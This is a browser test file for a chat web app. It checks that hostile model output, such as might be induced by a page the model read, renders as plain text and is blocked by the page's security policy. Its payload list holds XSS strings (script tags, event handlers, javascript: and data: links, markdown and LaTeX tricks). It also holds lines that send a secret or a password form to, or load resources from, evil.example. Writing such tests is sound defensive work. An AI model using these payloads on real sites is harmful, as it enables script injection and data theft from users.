import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Serving } from "../server/serve.js";
import { NO_BROWSER, serveApp, TestBrowser } from "./browser.js";
import { ChatDriver } from "./chat-page.js";
import { saying } from "./world.js";

/** What a model may be made to say, by a page that it has read for instance. Each would set `window.taken`. */
const HOSTILE = [
  "<script>window.taken = 1</script>",
  "<img src=x onerror='window.taken = 1'>",
  "<svg onload='window.taken = 1'><script>window.taken = 1</script></svg>",
  "<iframe srcdoc='<script>parent.taken = 1</script>'></iframe>",
  "<a href='javascript:window.taken = 1'>click</a>",
  "[click](javascript:window.taken=1)",
  "[click](  JaVaScRiPt:window.taken=1)",
  "[click](java&#x0A;script:window.taken=1)",
  "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQudGFrZW49MTwvc2NyaXB0Pg==)",
  "[click](vbscript:window.taken=1)",
  "<javascript:window.taken=1>",
  "![pixel](https://evil.example/pixel.png?secret=1)",
  "![x](javascript:window.taken=1)",
  '![x](x" onerror="window.taken=1)',
  "[a](https://example.com 'x\" onmouseover=\"window.taken=1')",
  '```js" onload="window.taken=1\n</code></pre><script>window.taken=1</script>\n```',
  "| a | <img src=x onerror=window.taken=1> |\n|---|---|\n| <script>window.taken=1</script> | b |",
  "$\\href{javascript:window.taken=1}{click}$ and $\\url{javascript:window.taken=1}$",
  "$$\\htmlStyle{background:url(https://evil.example)}{x} \\includegraphics{https://evil.example/x.png}$$",
  "$\\def\\a{\\a\\a}\\a$",
  "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><input name=password autofocus></form>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "$x^2$ is harmless",
  "[ref]: javascript:window.taken=1\n\n[click][ref]",
  "__proto__ constructor <x id=__proto__> {{constructor.constructor('window.taken=1')()}}",
].join("\n\n");

describe.skipIf(NO_BROWSER !== undefined)("a hostile answer", () => {
  let browser: TestBrowser;
  let serving: Serving;
  beforeAll(async () => {
    browser = await TestBrowser.open();
    serving = await serveApp({ models: { hostile: saying(HOSTILE) } });
  });
  afterAll(async () => {
    await browser?.close();
    await serving?.close();
  });

  test("is shown as text: nothing of it runs, loads, leads away or changes the page", async () => {
    const { page, problems, close } = await browser.page(serving.url);
    const chat = new ChatDriver(page);
    const text = await chat.ask("Go");
    // What it says is there to be read.
    expect(text).toContain("<script>window.taken = 1</script>");
    expect(text).toContain("<img src=x onerror='window.taken = 1'>");
    await chat.lastAnswer.locator("math").first().waitFor();
    const found = await chat.lastAnswer.evaluate((answer) => {
      const allowed = [
        "a",
        "article",
        "b",
        "blockquote",
        "br",
        "button",
        "code",
        "del",
        "div",
        "em",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
      ];
      const more = [
        "hr",
        "input",
        "li",
        "ol",
        "p",
        "path",
        "pre",
        "section",
        "span",
        "strong",
        "svg",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
        "dl",
        "dt",
        "dd",
      ];
      const elements = [...answer.querySelectorAll("*")].filter(
        (one) => one.namespaceURI !== "http://www.w3.org/1998/Math/MathML",
      );
      return {
        others: elements.map(({ localName }) => localName).filter((name) => ![...allowed, ...more].includes(name)),
        handlers: [...answer.querySelectorAll("*")].flatMap((one) =>
          one.getAttributeNames().filter((name) => name.startsWith("on")),
        ),
        links: [...answer.querySelectorAll("[href]")].map((one) => one.getAttribute("href") ?? ""),
        images: answer.querySelectorAll("img").length,
      };
    });
    expect(found.others).toEqual([]);
    expect(found.handlers).toEqual([]);
    expect(found.images).toBe(0);
    for (const href of found.links) expect(href).toMatch(/^https:\/\/(?:example\.com|evil\.example)\//);
    await chat.lastAnswer.evaluate((answer) => {
      for (const one of answer.querySelectorAll("*:not(a, a *, button)"))
        one.dispatchEvent(new MouseEvent("click", { bubbles: true }));
    });
    expect(await page.evaluate(() => Reflect.get(window, "taken"))).toBe(undefined);
    // No request to another host, and nothing that the page's policy had to stop.
    expect(problems).toEqual([]);
    await close();
  });

  test("the page's policy stops what would get past: inline scripts, HTML from text, other hosts", async () => {
    const { page, close } = await browser.page(serving.url);
    const outcome = await page.evaluate(async () => {
      const tried: Record<string, string> = {};
      try {
        document.body.insertAdjacentHTML("beforeend", "<p>x</p>");
        tried.html = "done";
      } catch (thrown) {
        tried.html = thrown instanceof Error ? thrown.name : "other";
      }
      const script = document.createElement("script");
      try {
        script.textContent = "window.taken = 1";
        document.head.append(script);
      } catch {
        // Refused before it could run.
      }
      tried.script = String(Reflect.get(window, "taken"));
      tried.fetch = await fetch("https://evil.example/").then(
        () => "done",
        () => "refused",
      );
      return tried;
    });
    expect(outcome).toEqual({ html: "TypeError", script: "undefined", fetch: "refused" });
    await close();
  });
});
